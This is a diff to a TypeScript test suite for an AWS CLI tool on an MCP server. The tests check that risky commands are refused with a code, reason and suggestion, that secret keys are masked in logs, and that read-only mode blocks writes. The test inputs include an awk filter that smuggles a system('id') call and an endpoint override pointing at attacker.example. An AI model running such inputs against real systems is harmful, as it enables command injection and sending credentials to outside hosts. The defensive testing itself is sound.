@@ -78,12 +78,29 @@ describe('aws_cli_pipeline in confirm-writes mode', () => {
     [{ command: 'aws s3 ls --debug' }, /^Refused \(FORBIDDEN_GLOBAL_OPTION\)/],
     [{ command: 'aws s3 ls | awk \'BEGIN{system("id")}\'' }, /^Refused \(UNSAFE_FILTER_PROGRAM\)/],
     [{ command: 'aws s3 ls --endpoint-url https://attacker.example' }, /^Refused \(FORBIDDEN_ENDPOINT\)/],
-  ])('refuses %j with a message that says what to do', async (args, message) => {
-    const result = await test.call('aws_cli_pipeline', args);
-    expect(result.isError).toBe(true);
-    expect(textOf(result)).toMatch(message);
-    expect(result.structuredContent).toMatchObject({ status: 'refused' });
-  });
+    [
+      { command: 'aws s3 ls --region mars-north-1' },
+      /^Refused \(UNKNOWN_REGION\): `mars-north-1` \(`--region` on the command line\)/,
+    ],
+  ])(
+    'refuses %j with a message that says what to do, and its code, reason and suggestion',
+    async (args, message) => {
+      const result = await test.call('aws_cli_pipeline', args);
+      expect(result.isError).toBe(true);
+      expect(textOf(result)).toMatch(message);
+      const structured = result.structuredContent as {
+        status: string;
+        code: string;
+        reason: string;
+        suggestion: string;
+      };
+      expect(structured.status).toBe('refused');
+      // The code the text names, the reason the text gives, and a next step.
+      expect(textOf(result)).toContain(structured.code);
+      expect(textOf(result)).toContain(structured.reason.slice(0, 40));
+      expect(structured.suggestion).toMatch(/\w.*\.$/);
+    },
+  );
 
   it('caps output at maxOutput but never above the server cap', async () => {
     const result = await test.call('aws_cli_pipeline', {
@@ -164,6 +181,22 @@ describe('aws_cli_pipeline output safety and progress', () => {
     );
   });
 
+  it('sends log lines through the masking engine', async () => {
+    const { LoggingMessageNotificationSchema } = await import('@modelcontextprotocol/sdk/types.js');
+    const received: unknown[] = [];
+    test.client.setNotificationHandler(LoggingMessageNotificationSchema, (notification) => {
+      received.push(notification.params.data);
+    });
+    const key = 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY';
+    test.context.log(`the CLI printed {"SecretAccessKey": "${key}"}`, 'warning');
+    for (let attempt = 0; attempt < 20 && received.length === 0; attempt++) {
+      await new Promise((resolve) => setTimeout(resolve, 50));
+    }
+    expect(received).toHaveLength(1);
+    expect(String(received[0])).toBe('the CLI printed {"SecretAccessKey": "[MASKED]"}');
+    expect(String(received[0])).not.toContain(key);
+  });
+
   it('sends progress notifications while a command runs, when asked', async () => {
     const { createServer } = await import('node:net');
     const hang = createServer((socket) => socket.on('error', () => {}));
@@ -211,6 +244,11 @@ describe('aws_cli_pipeline in read-only mode', () => {
     const result = await test.call('aws_cli_pipeline', { command: 'aws s3 mb s3://read-only-bucket' });
     expect(result.isError).toBe(true);
     expect(textOf(result)).toMatch(/^Refused by mode:read-only:/);
+    expect(result.structuredContent).toMatchObject({
+      code: 'DENIED_BY_POLICY',
+      reason: expect.stringMatching(/\S/),
+      suggestion: expect.stringMatching(/^Do not retry: the server’s policy forbids it/),
+    });
     expect(test.consent.asked).toEqual([]);
     const listing = await test.call('aws_cli_pipeline', { command: 'aws s3 ls' });
     expect(textOf(listing)).not.toContain('read-only-bucket');
